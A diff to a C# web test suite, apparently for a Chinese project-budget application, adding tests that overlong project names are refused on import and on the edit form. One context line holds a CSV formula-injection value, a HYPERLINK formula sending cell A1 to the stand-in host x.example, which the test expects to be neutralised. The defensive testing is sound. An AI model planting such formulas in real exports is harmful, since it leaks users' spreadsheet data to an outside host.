@@ -53,4 +53,41 @@ public abstract partial class WebTests
         Assert.Contains("\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"点此\"\")\"", csv, StringComparison.Ordinal);
         Assert.DoesNotContain(",\"=HYPERLINK", csv, StringComparison.Ordinal);
     }
+
+    [SkippableFact]
+    public async Task OverlongProjectName_IsRefusedNamingTableAndCell_NothingStored()
+    {
+        await using var app = await StartAsync();
+        var admin = await Browser.SignedInAsync(app.Factory, Admin, JixiaoAppFactory.AdminPassword);
+        var text = DemoFile("02-").Replace("\t义务教育学校公用经费\n", "\t" + new string('校', 100_000) + "\n", StringComparison.Ordinal);
+
+        var response = await admin.Client.PostAsync("/api/v1/import?fileName=long.txt", Upload(text));
+
+        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
+        var problem = await response.Content.ReadFromJsonAsync<JsonElement>();
+        Assert.Equal(("long.txt", 1), (problem.GetProperty("file").GetString(), problem.GetProperty("table").GetInt32()));
+        Assert.True(problem.GetRawText().Length < 2000, "the answer does not repeat the overlong name");
+        Assert.Contains("项目名称有 100000 个字符，超过 100 个字符的上限", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
+        Assert.Equal("项目名称", problem.GetProperty("cell").GetString());
+        Assert.Equal(0, await app.Factory.QueryAsync(db => db.ProjectVersions.CountAsync(v => v.Name.Length > 100)));
+    }
+
+    [SkippableFact]
+    public async Task OverlongProjectName_FromTheEditForm_IsRefusedOnThePage_NotAServerError()
+    {
+        await using var app = await StartAsync();
+        var admin = await Browser.SignedInAsync(app.Factory, Admin, JixiaoAppFactory.AdminPassword);
+        var id = await app.Factory.ProjectIdAsync(BudgetProjectName);
+        var edit = await admin.GetOkAsync($"/Projects/{id}/Edit");
+
+        var saved = await admin.SubmitAsync($"/Projects/{id}/Edit", edit, "project-form", new Dictionary<string, string>
+        {
+            ["Form.Name"] = new string('校', 101),
+            ["Command"] = "save",
+        });
+
+        Assert.NotEqual(HttpStatusCode.InternalServerError, saved.StatusCode);
+        Assert.Contains("项目名称有 101 个字符，超过 100 个字符的上限", WebUtility.HtmlDecode(await saved.Content.ReadAsStringAsync()), StringComparison.Ordinal);
+        Assert.Equal(1, await app.Factory.QueryAsync(db => db.Projects.Where(p => p.Id == id).Select(p => p.CurrentVersion).SingleAsync()));
+    }
 }
